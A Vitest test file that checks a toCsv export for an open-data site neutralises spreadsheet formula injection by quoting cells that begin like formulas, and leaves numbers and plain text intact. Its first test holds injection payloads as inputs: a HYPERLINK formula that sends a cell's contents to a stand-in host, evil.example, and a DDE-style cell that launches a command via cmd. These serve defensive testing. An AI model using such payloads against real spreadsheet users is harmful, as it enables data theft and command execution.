import { describe, expect, it } from 'vitest';
import { toCsv } from '../../sites/src/lib/feeds.ts';

/** The data lines of a CSV, without the byte order mark and the header. */
const lines = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n')
    .slice(1);

describe('the open-data CSV, opened in a spreadsheet', () => {
  it('does not let an entry run a formula: a cell that starts like one is read as text', () => {
    const csv = toCsv(
      [
        {
          titolo: '=HYPERLINK("http://evil.example/?x="&A1,"Candidati")',
          ente: "@SUM(1+1)*cmd|' /C calc'!A0",
          sintesi: '+39 per i residenti',
          comune: '-2+3',
          note: '\t=1+1',
          altro: '\r=1+1',
        },
      ],
      ['titolo', 'ente', 'sintesi', 'comune', 'note', 'altro'],
    );
    expect(lines(csv)).toEqual([
      [
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Candidati"")"`,
        `'@SUM(1+1)*cmd|' /C calc'!A0`,
        `'+39 per i residenti`,
        `'-2+3`,
        `'\t=1+1`,
        `"'\r=1+1"`,
      ].join(','),
    ]);
  });

  it('keeps numbers as numbers, negative ones too, and leaves ordinary text alone', () => {
    const csv = toCsv(
      [{ eta_minima: -1, eta_massima: 29, titolo: 'Tirocinio, Cremona', regionale: false, aree: ['=a', 'b'] }],
      ['eta_minima', 'eta_massima', 'titolo', 'regionale', 'aree'],
    );
    // A list is one cell: it starts with its first item, so that is what is checked.
    expect(lines(csv)).toEqual([`-1,29,"Tirocinio, Cremona",false,"'=a; b"`]);
  });
});
